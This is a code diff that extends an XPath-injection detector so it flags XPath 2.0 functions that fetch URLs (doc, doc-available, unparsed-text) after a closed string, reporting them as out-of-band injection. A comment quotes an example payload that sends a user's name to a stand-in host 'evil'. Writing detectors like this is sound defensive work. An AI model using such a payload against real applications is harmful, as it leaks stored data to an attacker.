@@ -95,6 +95,16 @@ function blindPath(v: string, quotes: readonly number[]): number {
   return -1;
 }
 
+/** XPath 2.0's functions that fetch a URL (`doc-available(concat('http://evil/', //user[1]/name))`), after a closed string. */
+function urlFunction(lower: string): number {
+  for (const name of ['doc-available(', 'doc(', 'unparsed-text(', 'unparsed-text-available(']) {
+    const at = lower.indexOf(name);
+    if (at < 0 || (at > 0 && isNameChar(lower.charCodeAt(at - 1)))) continue;
+    if (leftQuoteBefore(lower, Math.max(0, at - 200), at)) return at;
+  }
+  return -1;
+}
+
 /** `or` or `and` (any case) at `i`: its length, or 0. */
 function wordAt(v: string, i: number): number {
   const a = v.charCodeAt(i) | 32;
@@ -172,6 +182,11 @@ export const xpathiDetector: Detector = {
     const path = blindPath(v, quotes);
     if (path >= 0) {
       report({ ruleId: 'xpathi-blind-function', category: 'xpathi', paranoia: 1, score: SCORE.critical, message: 'XPath string closed and the document read by an absolute path', matched: v.slice(Math.max(0, path - 10), path + 40) });
+      return;
+    }
+    const url = v.length <= 8192 && (v.includes('doc') || v.includes('DOC') || v.includes('unparsed')) ? urlFunction(v.toLowerCase()) : -1;
+    if (url >= 0) {
+      report({ ruleId: 'xpathi-blind-function', category: 'xpathi', paranoia: 1, score: SCORE.critical, message: 'XPath string closed and a function fetching a URL (out-of-band)', matched: v.slice(Math.max(0, url - 10), url + 40) });
       return;
     }
     const at = v.includes('(/') ? blindFunction(v) : -1;
